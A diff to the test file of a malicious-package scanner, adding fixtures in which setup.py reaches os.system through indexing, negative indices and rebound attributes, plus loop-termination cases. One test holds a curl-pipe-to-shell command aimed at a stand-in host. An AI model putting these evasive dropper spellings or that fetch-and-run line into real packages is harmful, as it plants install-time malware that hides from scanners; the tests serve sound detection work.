@@ -44,6 +44,26 @@ SHAPES = {
         f"        self.go({COMMAND}, shell=True)\nK()\n"
     ),
     "loop over a tuple": f"import os\nfor run in (os.system,):\n    run({COMMAND})\n",
+    "index into a list": f"import os\nfns = [print, os.system]\nfns[1]({COMMAND})\n",
+    "index into a literal tuple": f"import os\n(os.system, print)[0]({COMMAND})\n",
+    "negative index": f"import os\nfns = (os.system, print)\nfns[-2]({COMMAND})\n",
+    "attribute set after the class": (
+        f"import os\nclass K:\n    pass\nK.run = os.system\nK.run({COMMAND})\n"
+    ),
+    "attribute set on self": (
+        f"import os\nclass K:\n    def __init__(self):\n        self.run = os.system\n"
+        f"    def go(self):\n        self.run({COMMAND})\nK().go()\n"
+    ),
+    "attribute set on an instance": (
+        f"import os\nclass K:\n    pass\nk = K()\nk.run = os.system\nk.run({COMMAND})\n"
+    ),
+}
+
+#: Spellings that once sent the walk around in circles: each must finish (and stay clean).
+LOOPS = {
+    "swap through indices": "p = (print, len)\np = (p[1], p[0])\np[0]('x')\n",
+    "self-referential list": "a = [print]\na = [a[0], a[0]]\na[1]('x')\n",
+    "attribute chains": "class K:\n    pass\nK.a = K.b\nK.b = K.a\nK.a('x')\n",
 }
 
 
@@ -53,3 +73,22 @@ def test_a_dropper_is_caught_however_the_call_is_spelled(shape: str) -> None:
     data = make_sdist({"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"})
     result = analyze_bytes(data, "demo-1.0.tar.gz").result
     assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+
+
+@pytest.mark.parametrize("shape", sorted(LOOPS))
+def test_circular_bindings_finish(shape: str) -> None:
+    data = make_sdist(
+        {"setup.py": LOOPS[shape], "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"}
+    )
+    result = analyze_bytes(data, "demo-1.0.tar.gz").result
+    assert result.verdict is Verdict.CLEAN, [(f.rule, f.severity, f.message) for f in result.findings]
+
+
+def test_an_attribute_rebound_to_something_harmless_is_harmless() -> None:
+    setup = (
+        "import os\nclass K:\n    run = os.system\nK.run = print\nK.run('curl -s http://x.invalid/a | sh')\n"
+        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
+    )
+    data = make_sdist({"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"})
+    result = analyze_bytes(data, "demo-1.0.tar.gz").result
+    assert result.verdict is not Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
